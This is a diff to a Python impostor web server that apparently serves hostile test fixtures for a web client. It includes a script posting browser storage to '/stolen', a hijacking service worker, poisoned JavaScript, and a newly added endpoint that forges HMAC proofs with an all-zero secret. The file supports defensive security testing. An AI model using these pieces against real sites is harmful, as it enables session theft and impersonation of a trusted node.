@@ -6,6 +6,8 @@
 Each line of standard input is an order: `give` closes the port and keeps every connection, and is answered with `given`.
 """
 
+import hashlib
+import hmac
 import json
 import os
 import socket
@@ -20,6 +22,9 @@ fetch("/stolen", {method: "POST", body: JSON.stringify([{...localStorage}, {...s
 </script>"""
 WORKER = """addEventListener("install", () => skipWaiting()); addEventListener("activate", (event) => event.waitUntil(clients.claim()));
 addEventListener("fetch", (event) => event.respondWith(new Response("<title>Intruder</title>", {headers: {"Content-Type": "text/html"}})));"""
+# A page that leaves no worker, and the secret that it leaves instead of the node's.
+BARE = "<!DOCTYPE html><title>Bare</title>"
+SECRET = bytes(32)
 POISON = "document.title = 'Poisoned';"
 
 heard = open(sys.argv[2], "a", buffering=1)
@@ -45,8 +50,13 @@ def serve(connection):
             kind, content = "text/javascript", WORKER
         elif path.endswith(".js"):
             kind, content = "text/javascript", POISON
+        elif path == "/bare":
+            content = BARE
+        elif path == "/api/v1/web/proof":
+            told = f"moot/1/web-proof/{json.loads(body)['nonce']}".encode()
+            kind, content = "application/json", json.dumps({"proof": hmac.new(SECRET, told, hashlib.sha256).hexdigest()})
         elif path.startswith("/api/"):
-            kind, content = "application/json", json.dumps({"proof": "0" * 64, "status": "ok", "last_event": 1, "user": "0" * 64})
+            kind, content = "application/json", json.dumps({"status": "ok", "last_event": 1, "user": "0" * 64})
         head = f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nCache-Control: max-age=31536000, immutable\r\nContent-Length: {len(content)}\r\n\r\n"
         connection.sendall((head + content).encode())
 
